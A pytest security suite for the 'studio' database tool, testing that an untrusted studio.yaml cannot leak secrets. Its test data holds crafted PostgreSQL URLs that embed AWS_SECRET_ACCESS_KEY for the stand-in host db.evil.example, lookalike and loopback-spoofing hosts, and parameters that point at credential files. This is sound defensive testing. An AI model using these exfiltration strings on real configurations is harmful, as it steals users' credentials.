"""A stranger's studio.yaml: which secrets it can send where, and what it can make studio print or look up."""

import ast
import json
import os
import pty
import select
import socket
import subprocess
import sys
import time
from collections.abc import Iterator, Mapping
from dataclasses import replace
from pathlib import Path

import pytest

import studio_sync
from studio_sync.database.address.hosts import ListeningPlace, canonical_host
from studio_sync.database.address.url import Target, parse_address, parse_declared
from studio_sync.database.trust import confirmed_hosts, sockets
from studio_sync.database.trust.trust import PasswordLine, Trusted, asked_for, hosts, unknown
from studio_sync.errors import StudioError, UsageError
from tests.harness import Result, run
from tests.security.fake_server import CLEARTEXT, MD5, Client, FakeServer

SECRET = "AKIA-hunter2-s3cret"
EVIL = "db.evil.example"


class Clone:
    """A stranger's repository in this user's hands."""

    def __init__(self, root: Path, home: Path) -> None:
        self.root, self.home = root, home
        (root / "content").mkdir(parents=True)

    def config(self, url: str, *, name: str = "live") -> None:
        """Write the stranger's studio.yaml with one target."""
        (self.root / "studio.yaml").write_text(f"targets:\n  {name}:\n    url: {json.dumps(url)}\n", "utf-8")

    def run(self, *arguments: str, **env: str) -> Result:
        """What a command does there, with a secret in the environment."""
        base = {k: v for k, v in os.environ.items() if k != "STUDIO_DATABASE_URL"}
        mine = {"STUDIO_HOME": str(self.home), "AWS_SECRET_ACCESS_KEY": SECRET, "HOME": str(self.home)}
        return run(*arguments, cwd=self.root, env={**base, **mine, **env})


@pytest.fixture
def clone(tmp_path: Path) -> Clone:
    (tmp_path / "home").mkdir(mode=0o700)
    return Clone(tmp_path / "clone", tmp_path / "home")


@pytest.fixture
def lookups(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """The names that are looked up; every one of them leads to this machine."""
    found: list[str] = []

    def look(host: str, *_: object, **__: object) -> list[object]:
        found.append(host)
        return [(socket.AF_INET, socket.SOCK_STREAM, 6, "", ("127.0.0.1", 0))]

    monkeypatch.setattr(socket, "getaddrinfo", look)
    return found


def takes_md5(client: Client) -> None:
    client.startup()
    client.send(MD5)
    client.message()


@pytest.fixture
def server() -> Iterator[FakeServer]:
    with FakeServer(takes_md5) as found:
        yield found


# --- a variable in any place but two


@pytest.mark.parametrize(
    "url",
    [
        "postgresql://${AWS_SECRET_ACCESS_KEY}@db.evil.example/d",
        "postgresql://u@${AWS_SECRET_ACCESS_KEY}.evil.example/d",
        "postgresql://u@db.evil.example/${AWS_SECRET_ACCESS_KEY}",
        "postgresql://u@db.evil.example:${AWS_SECRET_ACCESS_KEY}/d",
        "postgresql://u@db.evil.example/d?application_name=${AWS_SECRET_ACCESS_KEY}",
        "postgresql://u@db.evil.example/d?options=-c%20x.y=${AWS_SECRET_ACCESS_KEY}",
        "postgresql://u@db.evil.example/d?user=${AWS_SECRET_ACCESS_KEY}",
        "postgresql://u@db.evil.example/d?dbname=${AWS_SECRET_ACCESS_KEY}",
        "postgresql://u:${AWS_SECRET_ACCESS_KEY}x@db.evil.example/d",
        "postgresql://u:${AWS_SECRET_ACCESS_KEY}${HOME}@db.evil.example/d",
        "postgresql://u:${${AWS_SECRET_ACCESS_KEY}}@db.evil.example/d",
        "postgresql://u:${AWS_SECRET_ACCESS_KEY@db.evil.example/d",
        "postgresql://%24%7BAWS_SECRET_ACCESS_KEY%7D@db.evil.example/d",
        "${AWS_SECRET_ACCESS_KEY}.evil.example",
        "${AWS_SECRET_ACCESS_KEY}@db.evil.example",
        "host=${AWS_SECRET_ACCESS_KEY}.evil.example user=u",
        "host=db.evil.example user=${AWS_SECRET_ACCESS_KEY}",
    ],
)
def test_a_variable_is_sent_or_looked_up_as_a_piece_of_the_address(
    url: str, clone: Clone, lookups: list[str], server: FakeServer
):
    clone.config(url)
    for arguments in (("status",), ("trust",), ("doctor",), ("push", "-n")):
        found = clone.run(*arguments, STUDIO_TRUST=f"db.evil.example,{SECRET}.evil.example")
        assert found.code in (1, 2), found
        assert SECRET not in found.text
        assert "studio.yaml:3:10" in found.text
    assert not lookups
    assert server.connections == 0


def test_the_way_out_of_a_misplaced_variable_is_shown_at_its_line(clone: Clone):
    clone.config("postgresql://${U}@h/d")
    found = clone.run("status")
    assert found.code == 2
    assert f"{clone.root}/studio.yaml:3:10: " in found.err
    assert "${STUDIO_PRODUCTION_URL}" in found.err


@pytest.mark.parametrize(
    "value", ["${AWS_SECRET_ACCESS_KEY}", "$AWS_SECRET_ACCESS_KEY", "%AWS_SECRET_ACCESS_KEY%"]
)
def test_a_name_or_a_client_is_expanded(value: str, clone: Clone, lookups: list[str]):
    quoted = json.dumps(value)
    (clone.root / "studio.yaml").write_text(
        f"name: {quoted}\nclients: [{quoted}]\ntargets:\n  {quoted}: postgresql://u@db.evil.example/d\n"
    )
    for arguments in (("status",), ("doctor",), ("trust", "-n"), ("status", "--target", value)):
        assert SECRET not in clone.run(*arguments).text
    assert not lookups


def test_a_secret_that_is_no_address_is_printed_or_looked_up(clone: Clone, lookups: list[str]):
    clone.config("${AWS_SECRET_ACCESS_KEY}")
    for secret in (
        SECRET,
        f"{SECRET}==",
        "c2VjcmV0PQ=",
        "https://x:hunter2@y",
        "redis://:hunter2@h/0",
        "hunter2",
    ):
        found = clone.run("status", AWS_SECRET_ACCESS_KEY=secret)
        assert found.code == 2, found
        assert "hunter2" not in found.text
        assert secret not in found.text
    assert not lookups


def test_what_a_variable_holds_names_another_one(clone: Clone, lookups: list[str]):
    clone.config("${A}")
    found = clone.run("status", A="postgresql://${AWS_SECRET_ACCESS_KEY}@h.example/${AWS_SECRET_ACCESS_KEY}")
    assert SECRET not in found.text
    assert not [name for name in lookups if SECRET in name]


@pytest.mark.parametrize("dbname", ["postgresql://u@db.evil.example/d", "host=db.evil.example"])
def test_a_databases_name_is_an_address_itself(
    dbname: str, clone: Clone, lookups: list[str], server: FakeServer
):
    clone.config(f"host=127.0.0.1 port={server.port} user=u dbname='{dbname}' connect_timeout=2")
    assert clone.run("status").code == 3
    assert server.connections == 1
    assert not lookups


# --- secrets to a host that nobody confirmed


LENT: Mapping[str, str] = {
    "PGPASSWORD": SECRET,
    "PGOPTIONS": f"-c x.y={SECRET}",
    "PGAPPNAME": SECRET,
    "PGSSLCERT": "/etc/hostname",
}


@pytest.mark.parametrize(
    "command",
    [
        "status",
        "diff",
        "push",
        "pull",
        "log",
        "doctor",
        "board",
        "watch",
        "show HEAD",
        "db init",
        "db access",
    ],
)
def test_a_command_leads_the_users_secrets_to_a_host_of_the_strangers_choice(
    command: str, clone: Clone, lookups: list[str], server: FakeServer
):
    clone.config(server.url(host=EVIL, query="&sslmode=disable").replace("connect_timeout=2&", ""))
    found = clone.run(*command.split(), **LENT)
    assert found.code == 1, found
    assert server.connections == 0
    assert not lookups
    assert EVIL in found.text
    assert SECRET not in found.text


def test_a_new_workspace_is_made_from_a_strangers_target(
    clone: Clone, lookups: list[str], server: FakeServer, tmp_path: Path
):
    clone.config(server.url(host=EVIL, query="&sslmode=disable"))
    found = clone.run("init", str(tmp_path / "new"), "--from", "live", PGPASSWORD=SECRET)
    assert found.code == 1, found
    assert (server.connections, lookups) == (0, [])


def test_the_refusal_names_the_place_the_host_and_two_ways_out(clone: Clone, lookups: list[str]):
    clone.config("postgresql://mia:${AWS_SECRET_ACCESS_KEY}@db.evil.example:6543/studio?sslmode=disable")
    found = clone.run("status")
    assert found.code == 1
    for said in (
        f"{clone.root}/studio.yaml:3:10: ", "db.evil.example", "6543", "user mia", "database studio",
        "${AWS_SECRET_ACCESS_KEY}", "without TLS", "studio trust live", "STUDIO_TRUST=db.evil.example:6543",
    ):  # fmt: skip
        assert said in found.err
    assert SECRET not in found.text
    assert not lookups


def test_both_ways_out_of_the_refusal_work(clone: Clone, lookups: list[str], server: FakeServer):
    clone.config(server.url(host=EVIL, query="&sslmode=disable"))
    refused = clone.run("status")
    listed = refused.err.rpartition("STUDIO_TRUST=")[2].strip()
    assert clone.run("status", STUDIO_TRUST=listed).code == 3
    assert server.connections == 1
    assert clone.run("status").code == 1
    assert clone.run("trust", "live").code == 0
    assert clone.run("status").code == 3
    assert server.connections == 2
    assert lookups == [EVIL, EVIL]


def test_a_trusted_host_gets_what_psql_would_send_it(clone: Clone, lookups: list[str], server: FakeServer):
    clone.config(server.url(host=EVIL, query="&sslmode=disable"))
    clone.run("status", PGPASSWORD=SECRET, STUDIO_TRUST=EVIL)
    assert b"md5" in server.received
    assert lookups


@pytest.mark.parametrize(
    "other",
    [
        {"port": "6543"},
        {"host": "db2.evil.example"},
        {"user": "root"},
        {"variable": "AWS_SECRET_ACCESS_KEY"},
        {"unprotected": True},
        {"workspace": "/elsewhere"},
    ],
)
def test_what_was_confirmed_is_stretched_to_another_host_or_secret(other: dict[str, str | bool]):
    target = parse_declared("postgresql://mia@db.example.com/d", {})
    (confirmed,) = asked_for("/clone", target)
    assert not unknown("/clone", target, [confirmed], "", [])
    assert unknown("/clone", target, [replace(confirmed, **other)], "", [])  # type: ignore[arg-type]


def test_trust_of_one_host_covers_a_second_one_in_the_same_address():
    target = parse_declared("postgresql://u@db.example.com,db.evil.example/d", {})
    assert [one.host for one in unknown("/c", target, [], "db.example.com", [])] == [EVIL]


@pytest.mark.parametrize(
    ("listed", "trusted"),
    [
        ("db.evil.example", True),
        ("DB.Evil.Example.", True),
        (" a , db.evil.example:5432 ", True),
        ("db.evil.example:6543", False),
        ("evil.example", False),
        ("x.db.evil.example", False),
        ("", False),
    ],
)
def test_a_list_of_hosts_is_stretched(listed: str, trusted: bool):
    target = parse_declared("postgresql://u@db.evil.example/d", {})
    assert (not unknown("/c", target, [], listed, [])) is trusted


@pytest.mark.parametrize("listed", ["*", "*.example", "a b", "\uff45vil.example", "h:port", "http://h"])
def test_a_list_with_a_pattern_is_taken_for_more_than_it_says(listed: str):
    with pytest.raises(UsageError, match="STUDIO_TRUST"):
        hosts(listed)


# --- hosts that look like this machine


@pytest.mark.parametrize(
    "host",
    [
        "localhost.evil.com", "127.0.0.1.evil.com", "evil.localhost", "2130706433", "0x7f000001", "0x7f.1",
        "127.1", "0177.0.0.1", "127.0.0.01", "0.0.0.0", "[::]", "[::ffff:8.8.8.8]", "[fe80::1]",
        "[::1%25eth0]", "128.0.0.1", "10.0.0.1", "localhost-", "localhostx", "127.0.0.1,db.evil.example",
    ],
)  # fmt: skip
def test_a_host_passes_for_this_machine(host: str):
    try:
        target = parse_declared(f"postgresql://u@{host}/d", {})
    except UsageError:
        return
    assert target.named
    assert not target.loopback


@pytest.mark.parametrize(
    "host",
    [
        "127.\u0660.\u0660.\u0661", "\uff1127.0.0.1", "127\u30020\u30020\u30021", "\u24db\u24dec\u24d0lhost",
        "l\u043ecalhost", "b\xfccher.example", "local\xadhost", "a b",
    ],
)  # fmt: skip
def test_a_host_is_written_in_letters_that_look_like_others(host: str, lookups: list[str], clone: Clone):
    clone.config(f"host='{host}' user=u")
    found = clone.run("status", STUDIO_TRUST="localhost,127.0.0.1")
    assert found.code == 2
    assert "ASCII" in found.err
    assert not lookups


@pytest.mark.parametrize(
    "host", ["localhost", "LOCALHOST", "localhost.", "127.0.0.1", "127.9.9.9", "[::1]", "[::ffff:127.0.0.1]"]
)
def test_this_machine_needs_no_trust_in_any_spelling(host: str):
    target = parse_declared(f"postgresql://u@{host}/d", {})
    assert (target.named, target.loopback) == ((), True)


def test_localhost_leads_elsewhere_by_a_resolvers_answer(monkeypatch: pytest.MonkeyPatch):
    from studio_sync.database.postgres.connection.attempts import attempts

    answer, asked = [(2, 1, 6, "", ("192.0.2.66", 0))], []
    monkeypatch.setattr(socket, "getaddrinfo", lambda name, *_, **__: asked.append(name) or answer)
    found = list(attempts({"host": "LocalHost.", "user": "u"}, time.monotonic() + 5))
    assert [one["hostaddr"] for one in found] == ["127.0.0.1"]
    assert asked == ["localhost"]  # a name with a dot at its end is looked up in the net


@pytest.mark.parametrize("host", ["/tmp/evil", "/tmp", "@evil", "/run/postgresql/../../tmp"])
def test_a_socket_that_anybody_could_make_passes_for_this_machine(host: str):
    target = parse_declared(f"postgresql:///d?host={host}", {})
    assert target.named
    assert not any(map(sockets.is_own, target.named))


def test_a_socket_of_another_user_passes_for_ones_own(tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
    folder = Path(f"/tmp/studio-sock-{os.getpid()}")
    folder.mkdir()
    try:
        with socket.socket(socket.AF_UNIX) as listening:
            listening.bind(str(folder / ".s.PGSQL.5432"))
            assert sockets.is_own(ListeningPlace(str(folder)))
            folder.chmod(0o777)
            assert not sockets.is_own(ListeningPlace(str(folder)))
            folder.chmod(0o755)
            monkeypatch.setattr(os, "geteuid", lambda: 4_000_000)
            if folder.stat().st_uid:
                assert not sockets.is_own(ListeningPlace(str(folder)))
        assert not sockets.is_own(ListeningPlace(str(folder), "5433"))
    finally:
        (folder / ".s.PGSQL.5432").unlink()
        folder.rmdir()


# --- files and settings of the user's machine


@pytest.mark.parametrize(
    "parameter",
    [
        "hostaddr=192.0.2.1", "service=prod", "passfile=/home/me/.pgpass", "sslcert=/home/me/c",
        "options=-cx=y", "sslkey=/home/me/k", "sslpassword=x", "sslrootcert=/home/me/ca", "sslcrl=/x",
        "sslcrldir=/x", "krbsrvname=x", "gsslib=gssapi", "gssdelegation=1", "gssencmode=prefer",
        "requirepeer=x", "require_auth=password", "replication=database", "sslcertmode=require",
    ],
)  # fmt: skip
def test_a_parameter_names_a_file_or_a_service_of_the_users(parameter: str, clone: Clone, lookups: list[str]):
    clone.config(f"postgresql://u@db.evil.example/d?{parameter}")
    found = clone.run("status", STUDIO_TRUST=EVIL)
    assert found.code == 2, found
    assert "studio.yaml:3:10" in found.err
    assert not lookups


@pytest.mark.parametrize(
    "parameter",
    ["sslmode=verify-full&sslrootcert=system", "channel_binding=require", "target_session_attrs=any",
     "gssencmode=disable", "pgbouncer=true", "application_name=x"],
)  # fmt: skip
def test_what_hosters_print_may_stand_in_studio_yaml(parameter: str):
    assert parse_declared(f"postgresql://u:${{PW}}@h.example/d?{parameter}", {"PW": "x"}).named


def test_a_service_of_the_users_lends_its_password_to_a_strangers_host(tmp_path: Path):
    (tmp_path / "services").write_text(f"[prod]\nhost=db.example.com\npassword={SECRET}\n")
    env = {"PGSERVICE": "prod", "PGSERVICEFILE": str(tmp_path / "services")}
    assert SECRET not in parse_declared("postgresql://u@db.evil.example/d", env).conninfo


def test_a_host_of_the_environment_hides_where_the_address_leads():
    target = parse_declared("postgresql://u@db.evil.example/d", {"PGHOST": "h", "PGHOSTADDR": "192.0.2.1"})
    assert target.places == (ListeningPlace(EVIL),)
    assert "192.0.2.1" not in target.conninfo


def test_a_password_in_clear_stands_in_studio_yaml(clone: Clone):
    clone.config(f"postgresql://u:{SECRET}@h/d")
    for arguments in (("status",), ("trust",), ("doctor",)):
        found = clone.run(*arguments)
        assert found.code == 2, found
        assert SECRET not in found.text


# --- .pgpass


def line(host: str, port: str = "*", dbname: str = "*", user: str = "*") -> PasswordLine:
    return PasswordLine(host, port, dbname, user)


@pytest.mark.parametrize(
    ("given", "trusted"),
    [
        (line("db.evil.example"), True),
        (line("DB.evil.example", "5432", "d", "u"), True),
        (line("*"), False),
        (line("evil.example"), False),
        (line("db.evil.example", "6543"), False),
        (line("db.evil.example", user="bob"), False),
        (line("db.evil.example", dbname="x"), False),
    ],
)
def test_a_line_of_pgpass_is_stretched_to_another_host(given: PasswordLine, trusted: bool):
    target = parse_declared("postgresql://u@db.evil.example/d", {})
    assert (not unknown("/c", target, [], "", [given])) is trusted


def test_a_literal_line_of_pgpass_counts_and_one_that_others_can_read_does_not(
    clone: Clone, lookups: list[str], server: FakeServer
):
    clone.config(server.url(host=EVIL, query="&sslmode=disable"))
    file = clone.home / ".pgpass"
    file.write_text(f"# mine\n{EVIL}:{server.port}:*:mia:{SECRET}\n")
    file.chmod(0o644)
    assert clone.run("status").code == 1
    file.chmod(0o600)
    assert clone.run("status").code == 3
    assert server.connections == 1
    assert b"md5" in server.received
    assert lookups


def test_a_pipe_instead_of_pgpass_stops_the_command(clone: Clone):
    clone.config("postgresql://u@db.evil.example/d")
    os.mkfifo(clone.home / ".pgpass", 0o600)
    assert clone.run("status").code == 1


def test_colons_in_pgpass_are_read_as_libpq_does():
    assert confirmed_hosts._fields(r"a\:b:1:c\\d:u:p:w") == ["a:b", "1", r"c\d", "u", "p", "w"]


# --- what is confirmed, and where that is kept


def test_confirmations_are_listed_and_taken_back(clone: Clone, lookups: list[str]):
    clone.config("postgresql://mia@db.evil.example:6543/studio")
    assert clone.run("trust", "-n").code == 0
    assert clone.run("status").code == 1
    assert "host db.evil.example, port 6543, user mia" in clone.run("trust").out
    assert str(clone.root) in clone.run("trust", "--list").out
    (entry,) = clone.run("trust", "--list", "--json").json["hosts"]
    assert (entry["host"], entry["port"], entry["user"]) == (EVIL, "6543", "mia")
    assert clone.run("trust", "--remove", "live").code == 0
    assert clone.run("trust", "--list").out == ""
    clone.run("trust")
    assert clone.run("trust", "--remove", EVIL).out
    mistyped = clone.run("trust", "--remove", "lvie")
    assert (mistyped.code, "has no target lvie" in mistyped.err) == (2, True)
    assert clone.run("status").code == 1
    assert not lookups


def test_the_confirmation_is_the_users_alone(clone: Clone):
    clone.config("postgresql://mia@db.evil.example/studio")
    clone.run("trust")
    file = clone.home / "trust.json"
    assert file.stat().st_mode & 0o777 == 0o600
    file.chmod(0o666)
    found = clone.run("status")
    assert found.code == 3
    assert "only you can write" in found.err
    file.chmod(0o600)
    file.write_text("{")
    assert "remove it" in clone.run("status").err
    assert not list(clone.root.rglob("trust*"))


def test_a_link_beside_the_confirmation_makes_another_file(clone: Clone, tmp_path: Path):
    clone.config("postgresql://mia@db.evil.example/studio")
    victim = tmp_path / "victim"
    victim.write_text("precious")
    (clone.home / f"trust.{os.getpid()}").symlink_to(victim)
    assert clone.run("trust").code == 0
    assert victim.read_text() == "precious"


def test_the_confirmation_of_one_folder_counts_in_another(clone: Clone, tmp_path: Path, lookups: list[str]):
    clone.config("postgresql://mia@db.evil.example/studio")
    clone.run("trust")
    other = Clone(tmp_path / "other", clone.home)
    (other.root / "studio.yaml").write_text((clone.root / "studio.yaml").read_text() + "name: same\n")
    assert other.run("status").code == 1
    assert not lookups


def test_nothing_of_the_kind_is_needed_where_the_user_named_the_host(
    clone: Clone, lookups: list[str], server: FakeServer
):
    url = server.url(host=EVIL, query="&sslmode=disable")
    clone.config("${STUDIO_PRODUCTION_URL}")
    assert clone.run("status", STUDIO_PRODUCTION_URL=url).code == 3
    assert clone.run("status", "--database", url).code == 3
    assert clone.run("status", STUDIO_DATABASE_URL=url).code == 3
    assert server.connections == 3
    assert lookups
    assert not (clone.home / "trust.json").exists()


def test_the_doctor_names_targets_that_nobody_confirmed_and_connects_with_none(
    clone: Clone, lookups: list[str]
):
    (clone.root / "studio.yaml").write_text(
        "targets:\n  a: postgresql://u@db.evil.example/d\n  b: postgresql://${U}@h/d\n"
    )
    found = clone.run("doctor")
    assert found.code == 1
    assert "target a names a host that you have not trusted" in found.out
    assert "studio trust a" in found.out
    assert "variable in its user" in found.out
    assert not lookups


def test_completing_a_targets_name_connects_with_nothing(clone: Clone):
    with FakeServer(takes_md5) as server:
        clone.config(server.url(host="127.0.0.1", query="&sslmode=disable"))
        env = {"_STUDIO_COMPLETE": "bash_complete", "COMP_WORDS": "studio trust ", "COMP_CWORD": "2"}
        code = "import sys\nsys.argv = ['studio']\nfrom studio_sync.cli.main import main\nmain()"
        found = subprocess.run(
            [sys.executable, "-c", code], cwd=clone.root, env={**os.environ, **env}, timeout=20,
            capture_output=True, check=False,
        )  # fmt: skip
        assert server.connections == 0
    assert b"plain,live" in found.stdout


# --- the question on a terminal


def asked(clone: Clone, answer: bytes) -> tuple[int, str]:
    """What `studio status` on a terminal says, and how it ends, when this is typed at its question."""
    ours, theirs = pty.openpty()
    env = {
        "PATH": os.environ["PATH"],
        "STUDIO_HOME": str(clone.home),
        "HOME": str(clone.home),
        "TERM": "dumb",
    }
    code = (
        "import fcntl, sys, termios\n"
        "fcntl.ioctl(0, termios.TIOCSCTTY, 0)\n"
        "from studio_sync.cli.main import main\n"
        "sys.argv = ['studio', 'status']\n"
        "main()"
    )
    process = subprocess.Popen(
        [sys.executable, "-c", code], cwd=clone.root, env=env, stdin=theirs,
        stdout=theirs, stderr=theirs, start_new_session=True,
    )  # fmt: skip
    os.close(theirs)
    said, until = b"", time.monotonic() + 30
    while time.monotonic() < until:
        if not select.select([ours], [], [], 0.5)[0]:
            # Typed once the question waits: Python loses a Ctrl-C that comes within microseconds of
            # the question, before it reads. On a busy machine that may be the first one.
            if b"[y/N]" in said:
                os.write(ours, answer)
            continue
        try:
            data = os.read(ours, 4096)
        except OSError:
            break
        if not data:
            break
        said += data
    try:
        code_of_exit = process.wait(10)
    finally:
        process.kill()
        process.wait()
        os.close(ours)
    return code_of_exit, said.decode()


@pytest.mark.parametrize(
    ("answer", "code"),
    [
        pytest.param(b"\n", 1, id="Enter"),
        pytest.param(b"n\n", 1, id="n"),
        pytest.param(b"\x03", 1, id="Ctrl-C"),
        pytest.param(b"\x04", 1, id="Ctrl-D"),
        pytest.param(b"y\n", 3, id="y"),
    ],
)
def test_the_question_on_a_terminal_says_what_is_at_stake_and_no_is_the_default(
    clone: Clone, answer: bytes, code: int
):
    clone.config("postgresql://mia@no-such-host.invalid:6543/studio?connect_timeout=2", name='"li\\e[2Jve"')
    found, said = asked(clone, answer)
    assert found == code, said
    for part in ("studio.yaml:3:10", "no-such-host.invalid", "6543", "mia", "studio"):
        assert part in said
    assert "\x1b" not in said
    assert ("no host of this name" in said or "in time" in said) is (code == 3)


def test_a_label_says_where_and_nothing_secret():
    target = parse_address(
        "${URL}", {"URL": f"postgresql://mia:{SECRET}@db.example.com/studio?sslpassword={SECRET}"}
    )
    assert target.label == "mia@db.example.com/studio"
    assert SECRET not in repr(target)


def test_hosts_compare_in_one_spelling():
    assert canonical_host("DB.Example.COM.") == "db.example.com"
    assert canonical_host("2001:DB8:0::1") == "2001:db8::1"


def test_an_entry_of_another_shape_is_not_taken_for_a_confirmation(tmp_path: Path):
    file = tmp_path / "trust.json"
    file.write_text(json.dumps({"hosts": [{"workspace": "/c", "host": 1}]}))
    file.chmod(0o600)
    with pytest.raises(StudioError, match="understood"):
        confirmed_hosts.load_trusted(file)
    entry = Trusted("/c", "h", "5432", "u", "", False)
    file.unlink()
    confirmed_hosts.change(file, lambda known: (*known, entry))
    assert confirmed_hosts.load_trusted(file) == (entry,)


def test_target_is_a_value_without_its_secrets_in_sight():
    target = parse_declared("postgresql://u:${PW}@h.example/d", {"PW": SECRET})
    assert isinstance(target, Target)
    assert SECRET not in repr(target)
    assert target.scrub(f"x {SECRET}") == "x ***"


def test_a_cleartext_request_of_a_trusted_host_gets_no_password(clone: Clone, lookups: list[str]):
    def script(client: Client) -> None:
        client.startup()
        client.send(CLEARTEXT)
        client.message()

    with FakeServer(script) as server:
        clone.config(
            server.url(host=EVIL, query="&sslmode=disable").replace("mia@", "mia:${AWS_SECRET_ACCESS_KEY}@")
        )
        found = clone.run("status", STUDIO_TRUST=EVIL)
        assert found.code == 3
        assert SECRET.encode() not in server.received
    assert lookups


def test_variables_are_expanded_and_connections_made_behind_one_door_each():
    package = Path(studio_sync.__file__).parent
    doors = {
        "variables": "database/address/variables.py",
        "connections": "database/postgres/connection/connect.py",
    }
    wrong = []
    for path in sorted(package.rglob("*.py")):
        name, tree = path.relative_to(package).as_posix(), ast.parse(path.read_text("utf-8"))
        for node in ast.walk(tree):
            called = ast.unparse(node.func) if isinstance(node, ast.Call) else ""
            if called in ("psycopg.connect", "Connection.connect") and name != doors["connections"]:
                wrong.append(f"{name}:{node.lineno}: {called}")
            if called.endswith(("expandvars", "Template")):
                wrong.append(f"{name}:{node.lineno}: {called}")
            pattern = (
                node.args[0]
                if isinstance(node, ast.Call) and called.startswith("re.") and node.args
                else None
            )
            if pattern is not None and r"\$\{" in ast.unparse(pattern).replace("\\\\", "\\"):
                wrong += [f"{name}:{pattern.lineno}: {called}"] if name != doors["variables"] else []
    assert not wrong
    assert all((package / door).is_file() for door in doors.values())
